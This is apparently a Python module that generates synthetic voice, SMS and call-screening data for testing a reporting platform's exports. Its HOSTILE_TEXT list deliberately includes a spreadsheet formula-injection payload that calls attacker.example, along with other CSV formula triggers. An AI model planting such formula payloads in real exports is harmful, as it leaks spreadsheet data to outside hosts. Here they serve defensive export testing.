"""Deterministic synthetic usage data.

Each (seed, source, UTC day) has its own random stream, so the rows of a day never depend on
which range was asked for, and any volume can be generated a day at a time. Values follow the
shapes real traffic has (statuses, durations, segments, carrier fees, screening outcomes, SIP
hangup causes, STIR/SHAKEN attestation) and a small share of free text is hostile on purpose:
spreadsheet formula triggers, quotes, commas, newlines, non-Latin scripts, emoji and
1,600-character messages, so every export path meets them.
"""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta

import numpy as np
import polars as pl

from report_platform.domain.tenancy import Tenancy, Workspace
from report_platform.store.schema import (
    AEGIS_EVENTS,
    AEGIS_TRANSACTIONS,
    SMS_MESSAGES,
    VOICE_CALLS,
    Table,
)

SOURCES = ("voice_calls", "sms_messages", "aegis_transactions")
# Rows per day of each source relative to the requested `rows_per_day` (which counts SMS).
SOURCE_SHARE = {"voice_calls": 0.4, "sms_messages": 1.0, "aegis_transactions": 0.3}
HOSTILE_SHARE = 0.02
US_SECONDS_PER_DAY = 86_400 * 1_000_000

HOSTILE_TEXT = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click for refund")',
    "=1+1",
    "+1 (555) 010-9999 call me back",
    "-2 credits applied",
    "@SUM(A1:A9)",
    "\tTab-led text",
    "\rCarriage return first",
    'He said "stop", then texted again',
    "Hello, world, with, commas",
    "Line one\nLine two\r\nLine three",
    "Привет! Ваш код подтверждения 4821",
    "您的验证码是 7734，请勿泄露。",
    "مرحبا، تم تأكيد موعدك",
    "Party time 🎉🚀👍🏽 see you there",
    "Ünïcödé naïve café — “smart quotes”",
    ("Long message " + "lorem ipsum dolor sit amet " * 60)[:1600],
]

SMS_TEXT = [
    "Your appointment is confirmed for tomorrow at 10am. Reply C to confirm.",
    "Thanks for calling Acme. Reply STOP to opt out.",
    "Your verification code is 482913",
    "We tried to reach you. Call us back at your convenience.",
    "Your order has shipped and arrives Thursday.",
    "Reminder: your payment of $42.10 is due on the 15th.",
    "STOP",
    "Yes",
    "Can you call me after 5?",
    "Limited offer: 20% off this weekend only!",
    "Your account balance is low. Top up now to avoid interruption.",
    "Please rate your recent call from 1 to 5.",
]

CITIES = [
    ("New York", "NY", "10001", "America/New_York", "212"),
    ("Brooklyn", "NY", "11201", "America/New_York", "718"),
    ("Boston", "MA", "02108", "America/New_York", "617"),
    ("Miami", "FL", "33101", "America/New_York", "305"),
    ("Atlanta", "GA", "30301", "America/New_York", "404"),
    ("Detroit", "MI", "48201", "America/Detroit", "313"),
    ("Chicago", "IL", "60601", "America/Chicago", "312"),
    ("Houston", "TX", "77001", "America/Chicago", "713"),
    ("Dallas", "TX", "75201", "America/Chicago", "214"),
    ("Austin", "TX", "78701", "America/Chicago", "512"),
    ("Minneapolis", "MN", "55401", "America/Chicago", "612"),
    ("Denver", "CO", "80202", "America/Denver", "303"),
    ("Phoenix", "AZ", "85001", "America/Phoenix", "602"),
    ("Salt Lake City", "UT", "84101", "America/Denver", "801"),
    ("Los Angeles", "CA", "90001", "America/Los_Angeles", "213"),
    ("San Francisco", "CA", "94102", "America/Los_Angeles", "415"),
    ("Seattle", "WA", "98101", "America/Los_Angeles", "206"),
    ("Portland", "OR", "97201", "America/Los_Angeles", "503"),
    ("Anchorage", "AK", "99501", "America/Anchorage", "907"),
    ("Honolulu", "HI", "96801", "Pacific/Honolulu", "808"),
    ("Coeur d'Alene", "ID", "83814", "America/Los_Angeles", "208"),
    ("Española", "NM", "87532", "America/Denver", "505"),
]

CARRIERS = ["Verizon Wireless", "AT&T Mobility", "T-Mobile USA", "Lumen", "Bandwidth.com", "Twilio"]
LINE_TYPES = ["mobile", "landline", "voip", "toll-free", "unknown"]
LINE_TYPE_P = [0.62, 0.18, 0.15, 0.02, 0.03]
HANGUP = [
    (16, "NORMAL_CLEARING", 200),
    (17, "USER_BUSY", 486),
    (19, "NO_ANSWER", 480),
    (21, "CALL_REJECTED", 603),
    (1, "UNALLOCATED_NUMBER", 404),
    (34, "NO_CIRCUIT_AVAILABLE", 503),
    (31, "NORMAL_UNSPECIFIED", 487),
]
HANGUP_P = [0.70, 0.08, 0.09, 0.05, 0.03, 0.02, 0.03]

EVENT_FLOW = [
    "transaction.received",
    "number.normalized",
    "databoost.lookup",
    "databoost.result",
    "dnc.check",
    "dnc.result",
    "state_dnc.check",
    "state_dnc.result",
    "litigator.check",
    "litigator.result",
    "attestation.verified",
    "rule.evaluated",
    "pcid.substituted",
    "sip.invite",
    "sip.trying",
    "sip.ringing",
    "sip.answered",
    "media.started",
    "recording.started",
    "sip.bye",
]


def _rng(seed: int, day: date, source: str) -> np.random.Generator:
    return np.random.default_rng([seed, day.toordinal(), SOURCES.index(source) if source in SOURCES else 9])


def _rows_for(source: str, rows_per_day: int) -> int:
    return max(0, int(round(rows_per_day * SOURCE_SHARE[source])))


def _timestamps(rng: np.random.Generator, day: date, n: int) -> pl.Series:
    # Traffic follows the US business day: most events between 13:00 and 02:00 UTC.
    hours = rng.normal(19.0, 4.0, n) % 24
    micros = np.sort((hours * 3_600_000_000).astype(np.int64) + rng.integers(0, 1_000_000, n))
    micros = np.clip(micros, 0, US_SECONDS_PER_DAY - 1)
    start = int(datetime(day.year, day.month, day.day, tzinfo=UTC).timestamp() * 1_000_000)
    return pl.Series("occurred_at", micros + start).cast(pl.Datetime("us")).dt.replace_time_zone("UTC")


def _numbers(rng: np.random.Generator, n: int, area_codes: list[str] | None = None) -> pl.Series:
    areas = area_codes or [c[4] for c in CITIES]
    area = np.array(areas)[rng.integers(0, len(areas), n)]
    exchange = rng.integers(201, 999, n)
    line = rng.integers(0, 10_000, n)
    return pl.DataFrame({"a": area, "e": exchange, "l": line}).select(
        pl.format("+1{}{}{}", "a", pl.col("e").cast(pl.String), pl.col("l").cast(pl.String).str.zfill(4))
    )["a"]


def _pick(rng: np.random.Generator, values: list, n: int, p: list[float] | None = None) -> np.ndarray:
    idx = rng.choice(len(values), size=n, p=p)
    return np.array(values, dtype=object)[idx]


def _with_hostile(rng: np.random.Generator, text: pl.Series, share: float = HOSTILE_SHARE) -> pl.Series:
    n = len(text)
    mask = rng.random(n) < share
    hostile = pl.Series(_pick(rng, HOSTILE_TEXT, n), dtype=pl.String)
    swap = pl.Series(mask) & text.is_not_null()
    return pl.select(pl.when(swap).then(hostile).otherwise(text)).to_series().rename(text.name)


def _workspace_of(rng: np.random.Generator, workspaces: list[Workspace], n: int) -> np.ndarray:
    weights = np.array([w.weight for w in workspaces], dtype=float)
    return rng.choice(len(workspaces), size=n, p=weights / weights.sum())


def _ids(prefix: str, day: date, n: int) -> pl.Series:
    serial = pl.Series(np.arange(n)).cast(pl.String).str.zfill(8)
    return pl.select(pl.format(f"{prefix}-{day:%Y%m%d}-{{}}", serial)).to_series()


def _str(values: np.ndarray) -> pl.Series:
    """An object array that may hold None, as a String series with nulls."""
    return pl.Series(values.tolist(), dtype=pl.String)


def _frame(columns: dict, table: Table) -> pl.DataFrame:
    """Build a table's frame; numpy object arrays (strings with None) become String series."""
    data = {}
    for name, dtype in table.schema.items():
        value = columns[name]
        if isinstance(value, np.ndarray) and value.dtype == object:
            value = _str(value)
        elif isinstance(value, list):
            value = pl.Series(value, dtype=dtype if dtype != pl.Decimal(18, 6) else None)
        data[name] = pl.Series(name, value).cast(dtype)
    return pl.DataFrame(data)


def _per_workspace(ws_idx: np.ndarray, workspaces: list[Workspace], values: list[list], rng: np.random.Generator):
    """For each row, a random choice from its workspace's own list of values."""
    out = np.empty(len(ws_idx), dtype=object)
    for i, _ in enumerate(workspaces):
        rows = np.nonzero(ws_idx == i)[0]
        choices = values[i]
        if len(rows) and choices:
            out[rows] = np.array(choices, dtype=object)[rng.integers(0, len(choices), len(rows))]
    return out


def generate_voice_calls(tenancy: Tenancy, day: date, rows_per_day: int, seed: int = 0) -> pl.DataFrame:
    rng = _rng(seed, day, "voice_calls")
    n = _rows_for("voice_calls", rows_per_day)
    workspaces = list(tenancy.workspaces())
    ws = _workspace_of(rng, workspaces, n)
    campaigns = [w.campaigns_of("core", "byop") for w in workspaces]
    camp = _per_workspace(ws, workspaces, campaigns, rng)
    to_number = (
        np.array(
            [c.numbers[k % len(c.numbers)] for c, k in zip(camp, rng.integers(0, 1000, n), strict=True)],
            dtype=object,
        )
        if n
        else np.array([], dtype=object)
    )
    status = _pick(
        rng,
        ["completed", "no-answer", "busy", "failed", "voicemail", "canceled"],
        n,
        [0.68, 0.12, 0.06, 0.04, 0.07, 0.03],
    )
    talk = np.clip(rng.lognormal(4.6, 0.9, n), 5, 7200).astype(np.int32)
    vm = np.clip(rng.normal(35, 12, n), 5, 120).astype(np.int32)
    duration = np.where(status == "completed", talk, np.where(status == "voicemail", vm, 0)).astype(np.int32)
    agent = rng.integers(1, 60, n)
    pstn = rng.random(n) < 0.25
    sip = pl.select(pl.format("sip:agent-{}@pbx.example.net", pl.Series(agent).cast(pl.String))).to_series()
    destination = pl.select(pl.when(pl.Series(pstn)).then(_numbers(rng, n)).otherwise(sip)).to_series()
    return _frame(
        {
            "call_id": _ids("call", day, n),
            "workspace_id": np.array([w.id for w in workspaces], dtype=object)[ws],
            "occurred_at": _timestamps(rng, day, n),
            "from_number": _numbers(rng, n),
            "to_number": to_number,
            "destination": destination,
            "campaign_id": [c.id for c in camp],
            "campaign_name": [c.name for c in camp],
            "status": status,
            "duration_seconds": duration,
            "jurisdiction": _pick(rng, ["intrastate", "interstate"], n, [0.35, 0.65]),
        },
        VOICE_CALLS,
    )


def _segments(text: pl.Series) -> pl.Series:
    # GSM-7 messages fit 160 chars (153 per part when split); anything else is UCS-2: 70 / 67.
    gsm = text.str.contains(r"^[A-Za-z0-9 \n\r@£$¥!\"#%&'()*+,\-./:;<=>?_¡¿§ÄÖÑÜäöñüà]*$")
    length = text.str.len_chars()
    return pl.select(
        pl.when(gsm)
        .then(pl.when(length <= 160).then(1).otherwise((length + 152) // 153))
        .otherwise(pl.when(length <= 70).then(1).otherwise((length + 66) // 67))
        .cast(pl.Int32)
    ).to_series()


def generate_sms_messages(tenancy: Tenancy, day: date, rows_per_day: int, seed: int = 0) -> pl.DataFrame:
    rng = _rng(seed, day, "sms_messages")
    n = _rows_for("sms_messages", rows_per_day)
    workspaces = list(tenancy.workspaces())
    ws = _workspace_of(rng, workspaces, n)
    outbound = rng.random(n) < 0.72
    kind = rng.random(n)  # which campaign family sent or received the message
    core = _per_workspace(ws, workspaces, [[c.name for c in w.campaigns_of("core", "byop")] for w in workspaces], rng)
    engage = _per_workspace(ws, workspaces, [[c.name for c in w.campaigns_of("engage")] for w in workspaces], rng)
    tendlc = _per_workspace(ws, workspaces, [[c.id for c in w.campaigns_of("10dlc")] for w in workspaces], rng)
    own = _per_workspace(
        ws,
        workspaces,
        [[n_ for c in w.campaigns_of("core", "byop", "10dlc") for n_ in c.numbers] for w in workspaces],
        rng,
    )
    other = _numbers(rng, n)
    own_s = pl.Series(own, dtype=pl.String)
    text = _with_hostile(rng, pl.Series("message", _pick(rng, SMS_TEXT, n), dtype=pl.String))
    mms = rng.random(n) < 0.05
    segments = _segments(text)
    segments = pl.select(pl.when(pl.Series(mms)).then(1).otherwise(segments).cast(pl.Int32)).to_series()
    fee_per_segment = _pick(rng, [0.0025, 0.003, 0.0035, 0.004, 0.005], n)
    fee = np.where(
        outbound,
        fee_per_segment.astype(float) * segments.to_numpy() + np.where(mms, 0.01, 0.0),
        0.0,
    )
    failed = outbound & (rng.random(n) < 0.06)
    status = np.where(
        ~outbound,
        "received",
        np.where(failed, "failed", _pick(rng, ["delivered", "sent", "queued"], n, [0.93, 0.05, 0.02])),
    )
    errors = [
        ("30003", "Unreachable destination handset"),
        ("30005", "Unknown destination handset"),
        ("30006", "Landline or unreachable carrier"),
        ("30007", "Message filtered by carrier (spam)"),
        ("21610", "Recipient has opted out (STOP)"),
    ]
    err_idx = rng.integers(0, len(errors), n)
    err_status = np.where(failed, np.array([e[0] for e in errors], dtype=object)[err_idx], None)
    err_msg = np.where(failed, np.array([e[1] for e in errors], dtype=object)[err_idx], None)
    frame = _frame(
        {
            "message_id": _ids("msg", day, n),
            "workspace_id": np.array([w.id for w in workspaces], dtype=object)[ws],
            "occurred_at": _timestamps(rng, day, n),
            "direction": np.where(outbound, "outbound", "inbound"),
            "status": status,
            "from_number": pl.select(pl.when(pl.Series(outbound)).then(own_s).otherwise(other)).to_series(),
            "to_number": pl.select(pl.when(pl.Series(outbound)).then(other).otherwise(own_s)).to_series(),
            "core_campaign": _str(np.where(kind < 0.45, core, None)),
            "engage_campaign": _str(np.where((kind >= 0.45) & (kind < 0.8), engage, None)),
            "tendlc_campaign_id": _str(np.where(kind >= 0.8, tendlc, None)),
            "message": text,
            "segments": segments,
            "carrier_fee": pl.Series(np.round(fee, 4)).cast(pl.Decimal(18, 6)),
            "message_type": np.where(mms, "MMS", "SMS"),
            "sent_status": _str(np.where(~outbound, None, np.where(failed, "undelivered", "delivered"))),
            "sent_message": pl.select(
                pl.when(pl.Series(outbound & ~failed)).then(text + pl.lit(" Reply STOP to opt out.")).otherwise(None)
            ).to_series(),
            "error_status": err_status,
            "error_message": err_msg,
        },
        SMS_MESSAGES,
    )
    return frame


def generate_aegis(tenancy: Tenancy, day: date, rows_per_day: int, seed: int = 0) -> tuple[pl.DataFrame, pl.DataFrame]:
    """Aegis transactions of the day and their ordered event streams."""
    rng = _rng(seed, day, "aegis_transactions")
    n = _rows_for("aegis_transactions", rows_per_day)
    workspaces = list(tenancy.workspaces())
    ws = _workspace_of(rng, workspaces, n)
    wf = _per_workspace(ws, workspaces, [list(w.workflows) for w in workspaces], rng)
    city = rng.integers(0, len(CITIES), n)
    cities = np.array(CITIES, dtype=object)
    occurred = _timestamps(rng, day, n)
    tz = cities[city, 3] if n else np.array([], dtype=object)
    score = np.clip(rng.normal(55, 25, n), 0, 100).astype(np.int32)
    valid = rng.random(n) > 0.04
    dnc = rng.random(n) < 0.06
    state_dnc = rng.random(n) < 0.03
    litigator = rng.random(n) < 0.01
    attestation = _pick(rng, ["A", "B", "C"], n, [0.7, 0.2, 0.1])
    low_score = score < 10
    rejected = dnc | state_dnc | litigator | ~valid | low_score
    reason = np.where(
        litigator,
        "Known litigator",
        np.where(
            dnc,
            "Federal DNC match",
            np.where(
                state_dnc,
                "State DNC match",
                np.where(
                    ~valid,
                    "Invalid number",
                    np.where(low_score, "Low DataBoost activity score", "Passed all checks"),
                ),
            ),
        ),
    )
    hang = rng.choice(len(HANGUP), size=n, p=HANGUP_P)
    hang_arr = np.array(HANGUP, dtype=object)
    sip_duration = np.where(rejected, 0, np.where(hang == 0, np.clip(rng.lognormal(4.4, 1.0, n), 1, 5400), 0)).astype(
        np.int32
    )
    pcid = _per_workspace(
        ws,
        workspaces,
        [[x for c in w.campaigns_of("core", "byop") for x in c.numbers] for w in workspaces],
        rng,
    )
    substituted = (rng.random(n) < 0.4) & ~rejected
    lit_info = _with_hostile(
        rng,
        _str(
            np.where(
                litigator,
                _pick(
                    rng,
                    [
                        "TCPA plaintiff, 14 filings",
                        "Serial litigant (FL)",
                        "Class action named party",
                    ],
                    n,
                ),
                None,
            )
        ).rename("litigator_info"),
        share=0.2,
    )
    tx_ids = _ids("txn", day, n)
    transactions = _frame(
        {
            "transaction_id": tx_ids,
            "workspace_id": np.array([w.id for w in workspaces], dtype=object)[ws],
            "occurred_at": occurred,
            "workflow": [f.name for f in wf],
            "workflow_tier": [f.tier for f in wf],
            "from_number": _numbers(rng, n, [c[4] for c in CITIES]),
            "to_number": _numbers(rng, n, ["212", "415", "512", "312"]),
            "result": np.where(rejected, "Rejected", "Accepted"),
            "reason": reason,
            "city": cities[city, 0] if n else [],
            "state": cities[city, 1] if n else [],
            "zip": cities[city, 2] if n else [],
            "caller_timezone": tz,
            "is_test": rng.random(n) < 0.02,
            "pcid_from": _str(np.where(substituted, pcid, None)),
            "databoost_valid": valid,
            "databoost_activity_score": score,
            "databoost_line_type": _pick(rng, LINE_TYPES, n, LINE_TYPE_P),
            "databoost_carrier": _pick(rng, CARRIERS, n),
            "dnc_blocked": dnc,
            "dnc_san_coverage": rng.random(n) < 0.8,
            "dnc_reason": np.where(dnc, "Registered on National DNC since 2019-04-02", "Not listed"),
            "state_dnc_blocked": state_dnc,
            "state_dnc_reason": np.where(state_dnc, "Listed on state registry", "Not listed"),
            "litigator_blocked": litigator,
            "litigator_info": lit_info,
            "sip_duration_seconds": sip_duration,
            "sip_status": np.where(rejected, 603, hang_arr[hang, 2] if n else []).astype(np.int32),
            "sip_hangup_cause": np.where(rejected, "CALL_REJECTED", hang_arr[hang, 1] if n else []),
            "sip_hangup_cause_code": np.where(rejected, 21, hang_arr[hang, 0] if n else []).astype(np.int32),
            "sip_attestation": attestation,
        },
        AEGIS_TRANSACTIONS,
    )
    events = _events(rng, transactions)
    return transactions, events


def _events(rng: np.random.Generator, tx: pl.DataFrame) -> pl.DataFrame:
    n = tx.height
    counts = rng.integers(5, 41, n) if n else np.array([], dtype=np.int64)
    total = int(counts.sum())
    owner = np.repeat(np.arange(n), counts)
    starts = np.repeat(np.cumsum(counts) - counts, counts)
    seq = (np.arange(total) - starts + 1).astype(np.int32)
    last = seq == np.repeat(counts, counts)
    # First and last events are fixed; the middle walks the screening flow in order.
    middle = np.minimum(
        ((seq - 1) * (len(EVENT_FLOW) - 1)) // np.maximum(np.repeat(counts, counts) - 1, 1),
        len(EVENT_FLOW) - 1,
    )
    kind = np.array(EVENT_FLOW, dtype=object)[middle]
    kind = np.where(seq == 1, "transaction.received", np.where(last, "transaction.completed", kind))
    step_ms = rng.integers(2, 400, total)
    running = np.cumsum(step_ms)
    # Milliseconds since the transaction started: the running sum restarted at each transaction.
    offset_ms = (
        running
        - np.repeat(
            running[starts[np.cumsum(counts) - counts]] - step_ms[starts[np.cumsum(counts) - counts]],
            counts,
        )
        if n
        else running
    )
    base = tx["occurred_at"].to_numpy()[owner] if n else np.array([], dtype="datetime64[us]")
    occurred = (
        pl.Series(base + offset_ms.astype("timedelta64[ms]")).cast(pl.Datetime("us")).dt.replace_time_zone("UTC")
        if n
        else pl.Series([], dtype=pl.Datetime("us", "UTC"))
    )
    frame = pl.DataFrame(
        {
            "transaction_id": tx["transaction_id"].to_numpy()[owner] if n else [],
            "workspace_id": tx["workspace_id"].to_numpy()[owner] if n else [],
            "seq": seq,
            "occurred_at": occurred,
            "event_type": kind,
            "latency": step_ms,
            "result": tx["result"].to_numpy()[owner] if n else [],
        },
        schema_overrides={
            "transaction_id": pl.String,
            "workspace_id": pl.String,
            "event_type": pl.String,
            "result": pl.String,
        },
    )
    frame = frame.with_columns(
        detail=pl.concat_str(
            pl.lit('{"step":'),
            pl.col("seq").cast(pl.String),
            pl.lit(',"latencyMs":'),
            pl.col("latency").cast(pl.String),
            pl.lit(',"outcome":"'),
            pl.when(pl.col("event_type") == "transaction.completed").then(pl.col("result")).otherwise(pl.lit("ok")),
            pl.lit('"}'),
        )
    )
    return frame.select(AEGIS_EVENTS.names).cast(AEGIS_EVENTS.schema)  # type: ignore[arg-type]


def generate(source: str, tenancy: Tenancy, day: date, rows_per_day: int, seed: int = 0) -> dict[str, pl.DataFrame]:
    """Frames for one source and day, keyed by table name (Aegis also yields its events)."""
    if source == "voice_calls":
        return {"voice_calls": generate_voice_calls(tenancy, day, rows_per_day, seed)}
    if source == "sms_messages":
        return {"sms_messages": generate_sms_messages(tenancy, day, rows_per_day, seed)}
    if source == "aegis_transactions":
        tx, ev = generate_aegis(tenancy, day, rows_per_day, seed)
        return {"aegis_transactions": tx, "aegis_events": ev}
    raise ValueError(f"unknown source {source!r}; expected one of {', '.join(SOURCES)}")


def day_range(start: date, end: date) -> list[date]:
    """Every day from start to end, both included."""
    return [start + timedelta(days=i) for i in range((end - start).days + 1)]
